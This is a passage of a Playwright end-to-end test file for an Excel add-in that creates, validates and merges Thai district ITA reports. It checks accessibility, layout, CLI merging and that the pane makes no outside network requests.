import { execFileSync, spawnSync } from "child_process";
import { promises as fs } from "fs";
import os from "os";
import path from "path";
import { unzipSync, zipSync } from "fflate";
import { Browser, Page } from "playwright-core";
import {
  ARTIFACTS,
  axe,
  checkAtRest,
  checkWidths,
  launch,
  OFFICE_CDNS,
  ROOT,
  screenshot,
  screenshots,
  serve,
  strayRequests,
  Traffic,
  watchTraffic,
} from "./support";
import { tinyPng } from "../png";

const ITA = path.join(ROOT, "bin", "ita.js");
const SAMPLE = JSON.parse(
  require("fs").readFileSync(path.join(ROOT, "samples", "chom-thong-2567-r6.json"), "utf8")
) as { items: { code: string; score: number }[] };

type ItaTest = {
  cellOf(code: string, field: string): string;
  addPhoto(code: string, pngBase64: string): Promise<void>;
  scaffoldSample(low?: string): Promise<string>;
  type(address: string, value: string | number): void;
  value(address: string): unknown;
  sheetNames(): string[];
  selected(): string | null;
  xlsxBase64(): Promise<string>;
};
const it$ = (page: Page) =>
  page.evaluateHandle(() => (window as unknown as { itaTest: ItaTest }).itaTest);

let server: { url: string; close: () => Promise<void> };
let browser: Browser;
let dir: string;

beforeAll(async () => {
  server = await serve();
  browser = await launch();
  dir = await fs.mkdtemp(path.join(os.tmpdir(), "ita-e2e-"));
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (dir) await fs.rm(dir, { recursive: true, force: true });
});

const origin = () => new URL(server.url).origin;
const traffic = new WeakMap<Page, Traffic>();

/** The pane in a new page; `init` runs in the page before its own scripts (a browser's quirk). */
async function open(width = 500, query = "", init?: () => void): Promise<Page> {
  const page = await browser.newPage({ viewport: { width, height: 900 }, reducedMotion: "reduce" });
  const errors: string[] = [];
  page.on("pageerror", (e) => errors.push(String(e)));
  if (init) await page.addInitScript(init);
  traffic.set(page, await watchTraffic(page, origin()));
  await page.goto(`${server.url}${query}`);
  (page as unknown as { errors: string[] }).errors = errors;
  return page;
}

/** The pane made no request beyond its own server (and the Office.js CDN), and broke no CSP rule. */
function expectTalkedToNoOne(page: Page) {
  const t = traffic.get(page)!;
  expect(strayRequests(t, origin())).toEqual([]);
  expect(t.violations).toEqual([]);
  expect(t.requests.length).toBeGreaterThan(0);
}

/** The view tabs' distinct line positions (1: on one line). */
function tabLines(page: Page): Promise<number> {
  return page.evaluate(
    () =>
      new Set(
        [...document.querySelectorAll('[role="tab"]')].map((t) =>
          Math.round(t.getBoundingClientRect().top)
        )
      ).size
  );
}

/**
 * One step of a flow, checked as the user meets it: axe (0 violations), screenshots at 320 and 500 px,
 * no horizontal overflow at 320 and 270 px (the default pane width on a Mac), the view tabs on one
 * line at 320 px, and no Thai word split over two lines.
 */
async function checkView(page: Page, name: string) {
  await checkAtRest(page);
  await screenshots(page, name);
  await checkWidths(page, [320, 270]);
  await page.setViewportSize({ width: 320, height: 900 });
  expect(await tabLines(page)).toBe(1);
  await page.setViewportSize({ width: 500, height: 900 });
}

describe("the task pane in Chromium", () => {
  let filledFile: string;

  it("district flow: create the form, type scores, validate, go to I22, insert measures, ready to submit", async () => {
    const page = await open();
    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    await checkView(page, "1-create");
    await page.getByRole("combobox", { name: /หน่วยงาน/ }).fill("จอมทอง");
    // The sample is a 6-month report; the default follows the calendar (12-month from October to March).
    await page.getByRole("radio", { name: "6 เดือน" }).check();
    await page.getByRole("button", { name: "สร้างแบบรายงาน" }).click();
    await page.getByText(/^สร้างชีตแล้ว: ITA \d{4} รอบ 6$/).waitFor();
    await page.getByText(/กรอกคะแนนของแต่ละข้อในคอลัมน์คะแนน/).waitFor();
    await checkView(page, "1b-created");

    const t = await it$(page);
    // The user types the scores into Excel; I1 in Thai digits.
    await t.evaluate((x, items) => {
      for (const it of items)
        x.type(x.cellOf(it.code, "score"), it.code === "I1" ? "๙๖.๓๑" : it.score);
      x.type(x.cellOf("O1-O22", "evidence"), "https://www.bangkok.go.th/chomthong/ita/o1-o22");
      x.type(x.cellOf("O23-O30", "evidence"), "https://www.bangkok.go.th/chomthong/ita/o23-o30");
    }, SAMPLE.items);

    await page.getByRole("tab", { name: "ตรวจสอบ" }).click();
    await page.getByRole("button", { name: "ตรวจสอบก่อนส่ง" }).click();
    await page.getByText("ยังส่งไม่ได้").waitFor();
    await page
      .getByRole("button", { name: "แปลงคะแนน 1 ช่องที่เก็บเป็นข้อความหรือร้อยละให้เป็นตัวเลข" })
      .waitFor();
    await checkView(page, "2-validate");
    const issue = page.getByRole("button", {
      name: /^ข้อ I22 ได้ 82\.01 คะแนน.*ข้อผิดพลาด\s*ไปที่เซลล์ E\d+$/,
    });
    // The issue goes to the cell I22's measures are in: the I21–I24 group's, shared on this blank form.
    const measuresCell = /ไปที่เซลล์ (E\d+)$/.exec((await issue.textContent())!.trim())![1];
    expect(measuresCell).toBe(await t.evaluate((x) => x.cellOf("I21", "measures")));
    await issue.click();
    await page.waitForFunction(
      (c) => (window as unknown as { itaTest: ItaTest }).itaTest.selected()?.endsWith(`!${c}`),
      measuresCell
    );

    await page.getByRole("tab", { name: "ต่ำกว่าเกณฑ์" }).click();
    await page.getByRole("button", { name: /^I22 · 82\.01 คะแนน \(ขาดอีก 2\.99\)/ }).waitFor();
    await checkView(page, "3-flags");
    await page.getByRole("button", { name: "ใส่มาตรการที่เลือก (I22)" }).click();
    await page.getByText("I22: ใส่มาตรการแล้ว แก้ไขต่อได้ในเซลล์").waitFor();
    // The button used left with the item's picker: the focus is on the result, not the page.
    await page.waitForFunction(() => document.activeElement?.getAttribute("role") === "status");
    // The measures go into a cell of I22's own (the user chose I22, not its group): I21's, the
    // group's, stays empty, so I21, I23 and I24 take on no measures (nor the "no results" with them).
    const groupCell = await t.evaluate((x) => x.cellOf("I21", "measures"));
    const ownCell = await t.evaluate((x) => x.cellOf("I22", "measures"));
    expect(await t.evaluate((x, c) => x.value(c), groupCell)).toBeNull();
    expect(String(await t.evaluate((x, c) => x.value(c), ownCell))).toMatch(
      /^1\. นำผลการประเมิน ITA/
    );

    await page.getByRole("tab", { name: "ตรวจสอบ" }).click();
    await page.getByRole("button", { name: "ตรวจสอบก่อนส่ง" }).click();
    // No error left, but I1 is still stored as text: not ready until it is a number.
    await page.getByText("ยังส่งไม่ได้: มีคะแนนที่เก็บเป็นข้อความหรือร้อยละ").waitFor();
    expect(await page.getByText("พร้อมส่ง", { exact: true }).count()).toBe(0);
    await page
      .getByRole("button", { name: "แปลงคะแนน 1 ช่องที่เก็บเป็นข้อความหรือร้อยละให้เป็นตัวเลข" })
      .click();
    await page.getByText("พร้อมส่ง", { exact: true }).waitFor();
    await page.getByText(/ขั้นต่อไป: บันทึกสมุดงาน/).waitFor();
    await checkView(page, "4-ready");

    filledFile = path.join(dir, "1035-from-the-pane.xlsx");
    await fs.writeFile(filledFile, Buffer.from(await t.evaluate((x) => x.xlsxBase64()), "base64"));
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    expectTalkedToNoOne(page);
    await page.close();
  });

  it("typed in Excel: 85% read as 85 and converted with one click; the list marked stale by typing, checked again with one click", async () => {
    const page = await open(500);
    const t = await it$(page);
    await t.evaluate((x) => x.scaffoldSample());
    // Excel takes "85%" typed into I1's score cell as 0.85 shown as a percentage.
    const score = await t.evaluate((x) => x.cellOf("I1", "score"));
    await t.evaluate((x, c) => x.type(c, "85%"), score);
    expect(await t.evaluate((x, c) => x.value(c), score)).toBe(0.85);
    await page.getByRole("tab", { name: "ตรวจสอบ" }).click();
    await page.getByRole("button", { name: "ตรวจสอบก่อนส่ง" }).click();
    await page.getByText("ยังส่งไม่ได้").waitFor();
    // Read as 85: I1 is not flagged under the pass mark; a warning asks to type it as a number.
    expect(await page.getByText(/I1 ได้ 0\.85/).count()).toBe(0);
    // No errors and six warnings: every group fits a first screen, so I1's indicator is open
    // already (a click would fold it).
    await page.getByRole("radio", { name: "ทั้งหมด (6)" }).waitFor();
    expect(
      await page
        .getByRole("button", { name: /^IIT · ตัวชี้วัดที่ 1 การปฏิบัติหน้าที่/ })
        .getAttribute("aria-expanded")
    ).toBe("true");
    await page
      .getByText(
        "ข้อ I1: คะแนนเก็บเป็นร้อยละ (85%) จึงอ่านเป็น 85 คะแนน แต่แบบรายงานที่พิมพ์จะแสดงเป็น 0.85 คะแนน: พิมพ์ใหม่เป็นตัวเลข 85 (ไม่มีเครื่องหมาย %) หรือกดปุ่มแปลงในบานหน้าต่าง"
      )
      .waitFor();
    await checkView(page, "5-percent");
    await page
      .getByRole("button", { name: "แปลงคะแนน 1 ช่องที่เก็บเป็นข้อความหรือร้อยละให้เป็นตัวเลข" })
      .click();
    await page.getByText("แปลงคะแนนเป็นตัวเลขแล้ว: 1").waitFor();
    expect(await t.evaluate((x, c) => x.value(c), score)).toBe(85);
    expect(await page.getByText(/คะแนนเก็บเป็นร้อยละ/).count()).toBe(0);

    // The user types on in Excel after the check: the list says it no longer matches the sheet.
    expect(await page.getByText("ข้อมูลเปลี่ยนแล้ว — ตรวจอีกครั้ง").count()).toBe(0);
    const i22 = await t.evaluate((x) => x.cellOf("I22", "score"));
    await t.evaluate((x, c) => x.type(c, "88"), i22);
    await page.getByText("ข้อมูลเปลี่ยนแล้ว — ตรวจอีกครั้ง").waitFor();
    await checkView(page, "6-stale");
    await page.getByRole("button", { name: "ตรวจอีกครั้ง" }).click();
    await page.getByText("ข้อมูลเปลี่ยนแล้ว — ตรวจอีกครั้ง").waitFor({ state: "detached" });
    // I22 at 88 is no longer under the pass mark: its "no measures of its own" warning is gone.
    expect(await page.getByText(/ข้อ I22 ต่ำกว่าเกณฑ์/).count()).toBe(0);
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    await page.close();
  });

  it("the form filled in the pane reads and merges like one made by the CLI", async () => {
    const read = JSON.parse(
      execFileSync(process.execPath, [ITA, "read", filledFile], { encoding: "utf8" })
    );
    expect(read.unitCode).toBe("1035");
    expect(read.items.find((i: { code: string }) => i.code === "I1").score).toBe(96.31);
    expect(read.items.find((i: { code: string }) => i.code === "I22").measures).toMatch(
      /^1\. นำผลการประเมิน ITA/
    );
    const other = path.join(dir, "1002.xlsx");
    execFileSync(process.execPath, [
      ITA,
      "scaffold",
      "-o",
      other,
      "--unit",
      "ดุสิต",
      "--year",
      String(read.fiscalYear),
      "--from",
      path.join(ROOT, "samples", "chom-thong-2567-r6.json"),
    ]);
    const r = spawnSync(
      process.execPath,
      [ITA, "merge", filledFile, other, "-o", path.join(dir, "summary.xlsx"), "--json"],
      { encoding: "utf8" }
    );
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout).merged.map((m: { unitCode: string }) => m.unitCode)).toEqual([
      "1002",
      "1035",
    ]);
  });

  it("long lists: a weak report's issues and flags by indicator, insert for all selected, split I22 off", async () => {
    const page = await open();
    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    const t = await it$(page);
    // Every I item but the I21–I24 group under the pass mark with nothing written.
    await t.evaluate((x) => x.scaffoldSample("^I([1-9]|1[0-9]|20|2[5-9]|30)$"));

    await page.getByRole("tab", { name: "ตรวจสอบ" }).click();
    await page.getByRole("button", { name: "ตรวจสอบก่อนส่ง" }).click();
    await page.getByText("ยังส่งไม่ได้").waitFor();
    await page.getByRole("radio", { name: /^ข้อผิดพลาด \(\d+\)$/ }).waitFor();
    await checkView(page, "8-validate-long");
    // The filter leaves the warnings only; the indicators with errors were open.
    await page.getByRole("radio", { name: /^คำเตือน \(\d+\)$/ }).check();
    expect(await page.getByRole("button", { name: /ข้อผิดพลาด\s*ไปที่เซลล์/ }).count()).toBe(0);
    await page.getByRole("radio", { name: /^ทั้งหมด/ }).check();

    await page.getByRole("tab", { name: "ต่ำกว่าเกณฑ์" }).click();
    const all = page.getByRole("checkbox", { name: /^เลือกทุกข้อที่ยังไม่มีมาตรการ \(\d+\)$/ });
    await all.waitFor();
    expect(await page.locator("input[type=checkbox]:checked").count()).toBe(0);
    await checkView(page, "9-flags-long");
    // Rows are buttons: Enter on one selects the item's measures cell in Excel.
    const row = page.getByRole("button", { name: /^I1 · 70\.00 คะแนน/ });
    await row.focus();
    await page.keyboard.press("Enter");
    const i1 = await t.evaluate((x) => x.cellOf("I1", "measures"));
    await page.waitForFunction(
      (c) => (window as unknown as { itaTest: ItaTest }).itaTest.selected()?.endsWith(`!${c}`),
      i1
    );
    await all.check();
    await page.getByRole("button", { name: /^ใส่มาตรการมาตรฐานให้ทั้ง \d+ ข้อที่เลือก$/ }).click();
    await page.getByText(/^ใส่มาตรการมาตรฐานแล้ว \d+ ข้อ/).waitFor();
    await page.waitForFunction(() => document.activeElement?.getAttribute("role") === "status");
    expect(await t.evaluate((x, c) => x.value(c), i1)).toMatch(/^1\. /);

    // I22 (82.01) shares I21–I24's measures: one click gives it its own cells.
    await page.getByRole("radio", { name: /^ทั้งหมด/ }).check();
    const i5 = page.getByRole("button", { name: /^IIT · ตัวชี้วัดที่ 5 / });
    if ((await i5.getAttribute("aria-expanded")) !== "true") await i5.click();
    await page.getByRole("button", { name: "เขียนมาตรการของข้อ I22 เอง" }).click();
    await page.getByText(/^ข้อ I22 มีช่องมาตรการของตนเองแล้ว \(E\d+\)$/).waitFor();
    // The sheet is fitted for print after the split, which moves I22's rows: its cell as it is
    // now is the one named and selected.
    const i22 = await t.evaluate((x) => x.cellOf("I22", "measures"));
    await page.getByText(`ข้อ I22 มีช่องมาตรการของตนเองแล้ว (${i22})`, { exact: true }).waitFor();
    await page.getByText(`ช่อง ${i22} ถูกเลือกไว้แล้ว`).waitFor();
    expect(
      await t.evaluate(() => (window as unknown as { itaTest: ItaTest }).itaTest.selected())
    ).toMatch(new RegExp(`!${i22}$`));
    expect(await t.evaluate((x, c) => x.value(c), i22)).toMatch(/^1\. นำผลการประเมิน ITA/);
    await checkView(page, "10-flags-split");

    // The validate list checked before these changes says so, and checks again.
    await page.getByRole("tab", { name: "ตรวจสอบ" }).click();
    await page.getByText("ข้อมูลเปลี่ยนแล้ว — ตรวจอีกครั้ง").waitFor();
    await page.getByRole("button", { name: "ตรวจอีกครั้ง" }).click();
    await page.getByText("ข้อมูลเปลี่ยนแล้ว — ตรวจอีกครั้ง").waitFor({ state: "detached" });
    // The same lists in English.
    await page.getByRole("button", { name: "EN" }).click();
    await page.getByRole("radio", { name: /^Errors \(\d+\)$/ }).waitFor();
    await checkView(page, "11-validate-long-en");
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    expectTalkedToNoOne(page);
    await page.close();
  });

  /** Clicks the user makes on the page from now on (trusted clicks only: what a person does). */
  async function countClicks(page: Page): Promise<() => Promise<number>> {
    await page.evaluate(() => {
      const w = window as unknown as { clicks: number };
      w.clicks = 0;
      document.addEventListener("click", (e) => e.isTrusted && w.clicks++, true);
    });
    return () => page.evaluate(() => (window as unknown as { clicks: number }).clicks);
  }

  it("next round: the 12-month report from the 6-month sheet (photos carried), then next year's from the file", async () => {
    const page = await open();
    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    const t = await it$(page);
    const r6 = await t.evaluate((x) => x.scaffoldSample());
    const png = Buffer.from(tinyPng(64, 48)).toString("base64");
    await t.evaluate((x, b64) => x.addPhoto("I5", b64), png);
    await page.getByRole("tab", { name: "สร้างแบบ" }).click();
    const clicks = await countClicks(page);

    // 1: this workbook's report sheet.
    await page.getByRole("button", { name: "ใช้แบบรายงานในสมุดงานนี้" }).click();
    await page
      .getByText(
        `รายงานครั้งก่อน: ชีต "${r6}" · สำนักงานเขตจอมทอง · ปีงบประมาณ 2567 รอบ 6 เดือน · bkk-district-ita 2567.1`
      )
      .waitFor();
    await page.getByText("จะทำดังนี้").waitFor();
    await checkView(page, "12-earlier-sheet");
    // 2: the photos; 3: create.
    await page.getByRole("checkbox", { name: "ยกภาพกิจกรรมมาด้วย (1 ภาพ)" }).check();
    await page.getByRole("button", { name: "สร้างรายงานใหม่" }).click();
    await page.getByText("สร้างรายงานใหม่แล้ว: ITA 2567 รอบ 12 · ยกภาพมา 1 ภาพ").waitFor();
    expect(await clicks()).toBe(3);
    await checkView(page, "13-earlier-created");
    expect(await t.evaluate((x) => x.sheetNames())).toEqual([
      "Sheet1",
      r6,
      "ITA_META",
      "ITA 2567 รอบ 12",
    ]);

    // Validate the new sheet: each results cell still as in the 6-month report is warned about.
    await page.getByRole("button", { name: "ไปที่ตรวจสอบ" }).click();
    await page.getByRole("button", { name: "ตรวจสอบก่อนส่ง" }).click();
    await page.getByText('ชีตที่ตรวจ: "ITA 2567 รอบ 12"').waitFor();
    await page.getByRole("radio", { name: /^คำเตือน \(\d+\)$/ }).check();
    const i5 = page.getByRole("button", {
      name: /^ข้อ I5: ผลการดำเนินงานยังเหมือนรายงานรอบ 6 เดือน — เพิ่มผลที่ดำเนินการหลังจากนั้น\s*คำเตือน\s*ไปที่เซลล์ F\d+$/,
    });
    if (!(await i5.isVisible())) {
      const ind = page.getByRole("button", { name: /^IIT · ตัวชี้วัดที่ 1 / });
      if ((await ind.getAttribute("aria-expanded")) !== "true") await ind.click();
    }
    await i5.waitFor();
    await checkView(page, "14-earlier-validate");

    // The unit types what it did since into I5's results cell: that warning alone goes.
    const cell = await t.evaluate((x) => x.cellOf("I5", "results"));
    await t.evaluate((x, c) => x.type(c, "หลังรอบ 6 เดือน จัดอบรมเพิ่ม 2 ครั้ง ผู้เข้าร่วม 40 คน"), cell);
    await page
      .getByRole("button", { name: /^(ตรวจสอบก่อนส่ง|ตรวจอีกครั้ง)$/ })
      .first()
      .click();
    await i5.waitFor({ state: "detached" });
    expect(
      await page
        .getByRole("button", { name: /^ข้อ I1–I4: ผลการดำเนินงานยังเหมือนรายงานรอบ 6 เดือน/ })
        .count()
    ).toBe(1);

    // Next year's report from the 12-month file, with this year's scores pasted in the same step.
    const r12 = path.join(dir, "r12-from-the-pane.xlsx");
    await fs.writeFile(r12, Buffer.from(await t.evaluate((x) => x.xlsxBase64()), "base64"));
    const page2 = await open();
    await page2.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    const clicks2 = await countClicks(page2);
    // 1: the file input (the file is picked in the system's dialog).
    const [chooser] = await Promise.all([
      page2.waitForEvent("filechooser"),
      page2.getByLabel("หรือเลือกไฟล์รายงานครั้งก่อน (.xlsx)").click(),
    ]);
    await chooser.setFiles(r12);
    await page2.getByText(/^รายงานครั้งก่อน: r12-from-the-pane\.xlsx · /).waitFor();
    // The file holds both reports: the latest, the 12-month one, is taken.
    await page2.getByText(/ปีงบประมาณ 2567 รอบ 12 เดือน · bkk-district-ita 2567\.1$/).waitFor();
    await page2.getByRole("textbox", { name: /^คะแนนของปีนี้/ }).fill("I1 97.50\nI22 88.10");
    await page2.getByText("คะแนนจาก รายการคะแนนที่วาง 2 ข้อ").waitFor();
    await checkView(page2, "15-earlier-file-next-year");
    // 2: create (the paste is typing, not a click).
    await page2.getByRole("button", { name: "สร้างรายงานใหม่" }).click();
    await page2.getByText("สร้างรายงานใหม่แล้ว: ITA 2568 รอบ 6").waitFor();
    expect(await clicks2()).toBe(2);
    await checkView(page2, "16-earlier-next-year-created");

    // A picture and a merge summary: one line each, naming the file and what it is.
    const picture = path.join(dir, "ภาพกิจกรรม.png");
    await fs.writeFile(picture, tinyPng(8, 8));
    await page2.getByLabel("หรือเลือกไฟล์รายงานครั้งก่อน (.xlsx)").setInputFiles(picture);
    await page2
      .getByRole("alert")
      .getByText(
        "ไฟล์ ภาพกิจกรรม.png เป็นไฟล์รูปภาพ ไม่ใช่รายงานของหน่วยงาน: ระบุไฟล์ Excel (.xlsx) ของรายงานครั้งก่อนของหน่วยงาน"
      )
      .waitFor();
    await checkView(page2, "17-earlier-picture-refused");
    const summary = path.join(dir, "summary-for-earlier.xlsx");
    // The file holds two periods: one is merged, the other rejected (exit 3); the summary is written.
    spawnSync(process.execPath, [ITA, "merge", r12, "-o", summary, "--expect", "none"]);
    await fs.stat(summary);
    await page2.getByLabel("หรือเลือกไฟล์รายงานครั้งก่อน (.xlsx)").setInputFiles(summary);
    await page2
      .getByRole("alert")
      .getByText(
        /ไฟล์ summary-for-earlier\.xlsx เป็นไฟล์สรุปของส่วนกลางที่ ita merge เขียน ไม่ใช่รายงานของหน่วยงาน/
      )
      .waitFor();
    for (const p of [page, page2]) {
      expect((p as unknown as { errors: string[] }).errors).toEqual([]);
      expectTalkedToNoOne(p);
      await p.close();
    }
  });

  /** Three district files: two forms made by `ita` and meeting notes named like a workbook. */
  async function centralFiles(): Promise<string[]> {
    const files = [
      path.join(dir, "a-1035.xlsx"),
      path.join(dir, "b-1002.xlsx"),
      path.join(dir, "c-notes.xlsx"),
    ];
    const sample = path.join(ROOT, "samples", "chom-thong-2567-r6.json");
    // Written anew for each test: scaffold never writes over a unit's report.
    for (const f of files) await fs.rm(f, { force: true });
    execFileSync(process.execPath, [ITA, "scaffold", "-o", files[0], "--from", sample]);
    execFileSync(process.execPath, [
      ITA,
      "scaffold",
      "-o",
      files[1],
      "--unit",
      "1002",
      "--year",
      "2567",
      "--from",
      sample,
    ]);
    await fs.writeFile(files[2], "these are meeting notes, not a workbook");
    return files;
  }

  /** axe at rest, no horizontal overflow at 270 px (the pane's default on Mac) and 320 px, screenshots. */
  async function checkMerge(page: Page, name: string) {
    await checkAtRest(page);
    await checkWidths(page, [270, 320], { splits: false });
    await screenshot(page, 270, `${name}-270.png`);
    await screenshots(page, name);
  }

  it("central flow: files added pick by pick, merged with the problems first, the central report downloaded", async () => {
    const files = await centralFiles();
    const page = await open();
    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    await page.getByRole("tab", { name: "รวมรายงาน" }).click();
    // In the merge view (other views stay mounted), the files to merge come first; the previous
    // period's have an input of their own.
    const inputs = page
      .getByRole("region", { name: "รวมรายงานของสำนักงานเขต" })
      .locator('input[type="file"]');
    const input = inputs.first();
    // Two picks add up; the same file picked again is listed once.
    await input.setInputFiles(files.slice(0, 2));
    await input.setInputFiles([files[2], files[0]]);
    const chosen = page.getByRole("list", { name: "ไฟล์ที่เลือก (3)" });
    expect(await chosen.getByRole("listitem").allTextContents()).toEqual([
      "a-1035.xlsxนำออก",
      "b-1002.xlsxนำออก",
      "c-notes.xlsxนำออก",
    ]);
    await page.getByText("ไม่ได้เพิ่มซ้ำ (เลือกไว้แล้ว): a-1035.xlsx").waitFor();
    await checkMerge(page, "5-merge");

    // The clear dialog: checked by axe, and Escape returns to the button that opened it.
    await page.getByRole("button", { name: "ล้างรายการ" }).click();
    await page.getByRole("dialog").waitFor();
    expect(await axe(page)).toEqual([]);
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    await page.waitForFunction(() => document.activeElement?.textContent === "ล้างรายการ");

    // Compared with the previous year: a summary `ita merge` wrote of Chom Thong's 2566 report.
    const prev = path.join(dir, "prev-1035.xlsx");
    const prevSummary = path.join(dir, "summary-2566.xlsx");
    const sample = path.join(ROOT, "samples", "chom-thong-2567-r6.json");
    execFileSync(process.execPath, [
      ITA,
      "scaffold",
      "-o",
      prev,
      "--year",
      "2566",
      "--from",
      sample,
    ]);
    execFileSync(process.execPath, [ITA, "merge", prev, "-o", prevSummary, "--expect", "none"]);
    await inputs.nth(1).setInputFiles([prevSummary]);
    expect(
      await page
        .getByRole("list", { name: "ไฟล์ครั้งก่อนที่เลือก (1)" })
        .getByRole("listitem")
        .allTextContents()
    ).toEqual(["summary-2566.xlsxนำออก"]);

    await page.getByRole("button", { name: "รวมรายงาน", exact: true }).click();
    await page.getByText("เขียนสรุปลงในสมุดงานนี้แล้ว").waitFor();
    await page.waitForFunction(() => document.activeElement?.id === "merge-results-title");
    expect(await page.locator("#merge-compare").textContent()).toMatch(
      /^เทียบกับปีงบประมาณ 2566 รอบ 6 เดือน: คะแนนรวมโดยประมาณดีขึ้น 0 หน่วยงาน ลดลง 0 เท่าเดิม 1 จาก 1 หน่วยงานที่เทียบได้/
    );
    expect(await page.locator("#merge-counts").textContent()).toBe(
      "ไม่รับ 1 ไฟล์ · ยังไม่ส่ง 48 หน่วยงาน · รวมแล้ว 2 หน่วยงาน จาก 3 ไฟล์"
    );
    const rejected = page.getByRole("list", { name: "ไฟล์ที่ไม่รับ (1)" });
    await rejected.getByText(/c-notes\.xlsx — ไฟล์ c-notes\.xlsx เป็นไฟล์ข้อความ/).waitFor();
    // Problems come first on the page.
    const tops = await page.evaluate(() =>
      ["merge-rejected", "merge-missing", "merge-merged"].map(
        (id) => document.getElementById(id)!.getBoundingClientRect().top
      )
    );
    expect([...tops].sort((a, b) => a - b)).toEqual(tops);
    await page.getByRole("button", { name: "แสดงทั้งหมด 48 รายการ" }).waitFor();
    const t = await it$(page);
    expect(await t.evaluate((x) => x.sheetNames())).toEqual([
      "Sheet1",
      "ITA คะแนน",
      "ITA เทียบปีก่อน",
      "ITA รหัสข้อ",
      "ITA ค่าเฉลี่ยตัวชี้วัด",
      "ITA ต่ำกว่าเกณฑ์",
      "ITA สรุปมาตรการ",
      "ITA สถานะการส่ง",
      "ITA_SUMMARY_DATA", // hidden: what a later merge compares with
    ]);
    await checkMerge(page, "6-merged");

    await page.getByLabel("หน่วยงานผู้รวบรวม").fill("กองวินัยและเสริมสร้างจริยธรรม สำนักงาน ก.ก. (ทดสอบ)");
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "ดาวน์โหลดรายงานกลาง (.docx)" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("ITA-report-2567-r6.docx");
    const docx = path.join(dir, "report.docx");
    await download.saveAs(docx);
    const bytes = await fs.readFile(docx);
    expect(bytes.subarray(0, 2).toString("latin1")).toBe("PK");
    // The text as read: without the invisible word joiners that keep a unit's name on one line.
    const text = execFileSync("unzip", ["-p", docx, "word/document.xml"], {
      encoding: "utf8",
    }).replace(/\u2060/g, "");
    expect(text).toContain("(ทดสอบ)");
    expect(text).toContain("สำนักงานเขตจอมทอง");
    expect(text).toContain("การเปลี่ยนแปลงเมื่อเทียบกับปีงบประมาณ 2566 รอบ 6 เดือน");
    // The browser took the download: the pane says it started (it cannot see the file saved).
    await page.getByText("ดาวน์โหลด ITA-report-2567-r6.docx เริ่มแล้ว ดูในโฟลเดอร์ดาวน์โหลด").waitFor();
    expect(await axe(page)).toEqual([]);
    // Had no file come, the link to save it: the same report, as a data: URL the CSP lets through.
    await page.getByRole("button", { name: "ถ้าไม่มีไฟล์ในโฟลเดอร์ดาวน์โหลด กดที่นี่" }).click();
    await page.getByText("ถ้าไม่มี ITA-report-2567-r6.docx ในโฟลเดอร์ดาวน์โหลด").waitFor();
    const link = page.getByRole("link", { name: "บันทึก ITA-report-2567-r6.docx" });
    await page.waitForFunction(() => document.activeElement?.tagName === "A");
    const [again] = await Promise.all([page.waitForEvent("download"), link.click()]);
    expect(again.suggestedFilename()).toBe("ITA-report-2567-r6.docx");
    const copy = path.join(dir, "report-by-link.docx");
    await again.saveAs(copy);
    expect((await fs.readFile(copy)).equals(bytes)).toBe(true);
    expect(await axe(page)).toEqual([]);
    // The office is remembered for the next report.
    expect(await page.evaluate(() => localStorage.getItem("ita.office"))).toMatch(/\(ทดสอบ\)$/);
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    expectTalkedToNoOne(page);
    await page.close();
  });

  /**
   * A webview that drops a script's click on a blob: download link, as Excel for Mac's drops the
   * download itself (office-js #2700, #3385): run in the page before the pane's scripts.
   */
  function dropBlobClicks() {
    const click = HTMLAnchorElement.prototype.click;
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      if (!this.href.startsWith("blob:")) click.call(this);
    };
  }

  it("a folder mixed as people send it: one period merged, last year's file, a CSV and a Word report each named", async () => {
    const [ct, dusit] = await centralFiles();
    const sample = path.join(ROOT, "samples", "chom-thong-2567-r6.json");
    const lastYear = path.join(dir, "d-1001-2566.xlsx");
    execFileSync(process.execPath, [
      ITA,
      "scaffold",
      "-o",
      lastYear,
      "--unit",
      "1001",
      "--year",
      "2566",
      "--from",
      sample,
    ]);
    const csv = path.join(dir, "e-scores.csv");
    await fs.writeFile(csv, "ข้อ,คะแนน\nI1,96.31\n");
    const word = path.join(dir, "f-report.docx");
    // A Word report as districts write them: the central report `ita merge` makes, without the
    // property that marks it as ita's own (which a merge skips as its earlier output).
    const ours = path.join(dir, "x-report.docx");
    execFileSync(process.execPath, [
      ITA,
      "merge",
      ct,
      "-o",
      path.join(dir, "x.xlsx"),
      "--report",
      ours,
      "--expect",
      "none",
    ]);
    const parts = unzipSync(new Uint8Array(await fs.readFile(ours)));
    delete parts["docProps/custom.xml"];
    await fs.writeFile(word, zipSync(parts));
    const page = await open();
    await page.getByRole("tab", { name: "รวมรายงาน" }).click();
    const input = page
      .getByRole("region", { name: "รวมรายงานของสำนักงานเขต" })
      .locator('input[type="file"]')
      .first();
    await input.setInputFiles([ct, dusit, lastYear, csv, word]);
    // The periods the files give, shown before merging: the most common chosen.
    const period = page.getByRole("combobox", { name: "ปีงบประมาณและรอบที่จะรวม" });
    await period.waitFor();
    expect(await period.locator("option").allTextContents()).toEqual([
      "2567 รอบ 6 เดือน · 2 ไฟล์",
      "2566 รอบ 6 เดือน · 1 ไฟล์",
    ]);
    await page.getByRole("button", { name: "รวมรายงาน", exact: true }).click();
    await page.getByText("เขียนสรุปลงในสมุดงานนี้แล้ว").waitFor();
    expect(await page.locator("#merge-period").textContent()).toBe(
      "รวมรายงานปีงบประมาณ 2567 รอบ 6 เดือน"
    );
    expect(await page.locator("#merge-counts").textContent()).toBe(
      "ไม่รับ 3 ไฟล์ · ยังไม่ส่ง 48 หน่วยงาน · รวมแล้ว 2 หน่วยงาน จาก 5 ไฟล์"
    );
    expect(
